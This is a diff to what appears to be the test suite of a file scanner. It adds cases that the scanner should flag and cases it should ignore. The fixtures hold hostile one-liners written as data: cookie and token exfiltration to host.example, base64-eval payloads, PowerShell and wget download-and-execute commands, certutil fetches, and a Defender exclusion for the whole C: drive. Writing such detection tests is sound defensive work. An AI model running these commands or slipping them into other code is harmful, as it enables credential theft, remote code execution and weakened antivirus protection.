@@ -106,3 +106,30 @@ describe('instructions and notes', () => {
     expect(alarms(await findingsOf(programs, [textFile('notes.txt', `some words\n${btoa('\x80\x02cposix\nsystem\nX\x10\x00\x00\x00true            \x85R.')}\n`)]))).toEqual(['medium ASY-EXE-005']);
   });
 });
+
+describe('scripts that are not Python', () => {
+  it.each([
+    ['a.js', 'const cp = require("child_" + "process"); cp.execSync("id")', 'medium ASY-EXE-002'],
+    ['a.js', 'eval(atob("YWxlcnQoMSk="))', 'high ASY-EXE-002'],
+    ['index.html', '<script>fetch("https://host.example/?" + document.cookie)</script>', 'high ASY-EXE-002'],
+    ['index.html', `<img src=x onerror="fetch('http://host.example/?'+localStorage.token)">`, 'high ASY-EXE-002'],
+    ['page.html', `<p>${'x'.repeat(9000)}</p><script>eval(unescape("%61"))</script>`, 'high ASY-EXE-002'],
+    ['a.ps1', 'iwr http://host.example/a.ps1 | iex', 'high ASY-EXE-002'],
+    ['a.ps1', 'Add-MpPreference -ExclusionPath C:\\', 'high ASY-EXE-002'],
+    ['a.bat', 'certutil -urlcache -f http://host.example/a.exe a.exe', 'high ASY-EXE-002'],
+    ['a.sh', 'echo aWQ= | base64 -d | sh', 'high ASY-EXE-002'],
+    ['a.sh', 'wget http://host.example/x -O x; chmod +x x; ./x', 'high ASY-EXE-002'],
+  ])('%s: %s', async (name, text, expected) => {
+    expect(alarms(await findingsOf(programs, [textFile(name, text)]))).toEqual([expected]);
+  });
+
+  it.each([
+    ['index.html', '<html><body><script>document.title = localStorage.getItem("title"); fetch("/data.json")</script></body></html>'],
+    ['a.js', '// see child_process of Node\nimport { pipeline } from "@huggingface/transformers";\nconst out = await fetch("https://host.example/model.json");'],
+    ['run.sh', '#!/bin/bash\nset -e\npython train.py --lr 1e-4\nwget https://repo.example.com/a.sh -O a.sh && bash a.sh\n'],
+    ['run.bat', '@echo off\npython -m venv venv\ncall venv\\Scripts\\activate\npip install -r requirements.txt\n'],
+    ['run.ps1', 'Invoke-WebRequest https://host.example/model.gguf -OutFile model.gguf\n'],
+  ])('leave alone %s', async (name, text) => {
+    expect(alarms(await findingsOf(programs, [textFile(name, text)]))).toEqual([]);
+  });
+});
